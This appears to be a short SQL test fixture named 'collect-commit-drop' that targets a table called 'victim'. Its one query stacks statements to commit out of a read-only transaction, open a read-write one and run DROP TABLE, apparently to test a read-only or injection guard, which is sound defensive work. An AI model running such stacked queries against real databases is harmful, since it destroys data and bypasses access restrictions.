-- name: collect-commit-drop
-- table: victim
-- Attack ends the transaction and drops the table.
SELECT id FROM public.victim WHERE false; COMMIT; BEGIN READ WRITE; DROP TABLE public.victim; SELECT 1 WHERE false;
